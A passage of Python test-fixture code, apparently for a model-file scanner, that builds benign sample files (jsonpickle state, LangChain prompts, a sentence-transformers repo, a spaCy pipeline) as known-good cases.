    shelf.good("jsonpickle", js({"py/object": "collections.OrderedDict", "a": {"py/tuple": [1, 2]}, "s": {"py/set": ["eval", "exec"]}}), "plain values of jsonpickle", name="state.json")
    shelf.good("langchain-prompt", js({"_type": "prompt", "input_variables": ["question"], "template": "Never eval() this: {question}", "template_format": "f-string"}), "LangChain: an ordinary prompt", name="prompt.json")
    shelf.good("langchain-constructor", js({"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"], "kwargs": {"input_variables": ["x"], "template": "{x}"}}), "LangChain: a prompt as an object", name="prompt.json")
    shelf.good("sentence-transformers", {**base(), "modules.json": js([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
               {"idx": 2, "name": "2", "path": "2_Dense", "type": "sentence_transformers.models.Dense"}]), "1_Pooling/config.json": js({"word_embedding_dimension": 3, "pooling_mode_mean_tokens": True}),
               "2_Dense/config.json": js({"in_features": 3, "out_features": 2, "bias": True, "activation_function": "torch.nn.modules.activation.Tanh"}), "2_Dense/model.safetensors": plain_safetensors(),
               "config_sentence_transformers.json": js({"__version__": {"sentence_transformers": "3.0.1"}, "prompts": {}})}, "a sentence-transformers model", name="repo")
    if have("spacy"):
        spacy_library(shelf)
    else:
        shelf.skip("spacy is missing: its own pipelines were left out")
    return shelf


def spacy_library(shelf: Shelf) -> None:
    import tempfile
    from pathlib import Path

    import spacy as module

    nlp = module.blank("en")
    nlp.add_pipe("sentencizer")
    nlp.add_pipe("entity_ruler").add_patterns([{"label": "WORD", "pattern": "eval"}])
    with tempfile.TemporaryDirectory() as home:
        nlp.to_disk(home)
        files = {str(p.relative_to(home)): p.read_bytes() for p in Path(home).rglob("*") if p.is_file()}
    shelf.good("spacy-library", files, "written by spacy", name="model", source="the installed library")


